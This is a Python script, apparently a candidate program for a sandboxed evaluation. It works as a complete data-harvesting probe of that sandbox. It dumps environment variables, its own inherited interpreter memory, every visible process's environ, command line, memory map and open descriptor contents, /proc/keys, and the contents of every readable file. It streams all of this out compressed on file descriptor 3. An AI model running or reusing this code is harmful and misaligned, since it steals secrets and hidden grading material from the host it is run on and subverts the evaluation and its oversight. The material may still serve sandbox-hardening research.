"""A search of the room that it runs in: as a candidate, it hands out all that can be read there on descriptor 3.

A stream of records, deflated: the name of a source and its content. Files that a caller can know (the interpreter's,
the system's) go out by size and time alone. Standard library only; it knows nothing of what is looked for, so that
nothing of it can be found in the room.
"""

import contextlib
import os
import re
import stat
import struct
import sys
import zlib

KNOWN = ("/usr", "/bin", "/sbin", "/lib", "/lib64", "/opt/quintain/python", sys.base_prefix)
"""Directories of the host's own, below which files go out by size and time."""
LONGEST = 8 << 20
"""Bytes of one source."""
PER_PROCESS = ("environ", "cmdline", "comm", "status", "mountinfo", "limits", "cgroup", "maps")
OF_THE_KERNEL = ("/proc/net/unix", "/proc/sysvipc/msg", "/proc/sysvipc/shm", "/proc/keys", "/proc/cmdline")
CHANNEL = os.readlink("/proc/self/fd/3")

packer = zlib.compressobj(1)


def write(data: bytes) -> None:
    rest = memoryview(data)
    while rest:
        rest = rest[os.write(3, rest) :]


def say(name: str, content: bytes) -> None:
    spelled = name.encode("utf-8", "surrogateescape")
    write(packer.compress(struct.pack(">II", len(spelled), len(content)) + spelled + content))


def read(path: str) -> bytes:
    """What is there, pipes that are empty and files that may not be read aside."""
    content = b""
    with contextlib.suppress(OSError):
        opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            while len(content) < LONGEST and (chunk := os.read(opened, 1 << 20)):
                content += chunk
        finally:
            os.close(opened)
    return content


def files(root: str) -> None:
    """Every name, link and file below the root, in all that is mounted there."""
    for folder, folders, names in os.walk(root):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys")]
        for path in (os.path.join(folder, name) for name in (*folders, *names)):
            status = os.lstat(path)
            if stat.S_ISLNK(status.st_mode):
                say(f"link {path}", os.readlink(path).encode("utf-8", "surrogateescape"))
            elif stat.S_ISREG(status.st_mode):
                known = path.startswith(tuple(f"{place}/" for place in KNOWN)) and "/site-packages/" not in path
                time = f"{status.st_size} {status.st_mtime_ns}".encode()
                say(f"known {path}", time) if known else say(f"file {path}", read(path))


def processes() -> None:
    """What the kernel shows of every process, and what can be read back from its descriptors."""
    for number in filter(str.isdigit, os.listdir("/proc")):
        for part in PER_PROCESS:
            say(f"process {number} {part}", read(f"/proc/{number}/{part}"))
        for place in (f"/proc/{number}/fd", f"/proc/{number}/task"):
            names = []
            with contextlib.suppress(OSError):
                names = os.listdir(place)
            for name in names:
                target = ""
                with contextlib.suppress(OSError):
                    target = os.readlink(f"{place}/{name}")
                say(f"descriptor {place}/{name}", target.encode())
                if target != CHANNEL:  # or it would read back what it says, before its reader does
                    say(f"content {place}/{name}", read(f"{place}/{name}"))


def memory() -> None:
    """This process's own writable memory: a warm interpreter is a fork of one that outlives the room."""
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in list(maps):
            found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if found is None or "[v" in line:
                continue
            first, last = (int(bound, 16) for bound in found.groups())
            with contextlib.suppress(OSError, OverflowError):
                mem.seek(first)
                say(f"memory {line.strip()}", mem.read(min(last - first, LONGEST)))


def everything() -> None:
    say("environment", repr(dict(os.environ)).encode())
    say("arguments", repr([sys.argv, sys.orig_argv, sys.path]).encode())
    memory()
    processes()
    for path in OF_THE_KERNEL:
        say(path, read(path))
    files("/")
    write(packer.flush())


everything()
os._exit(0)
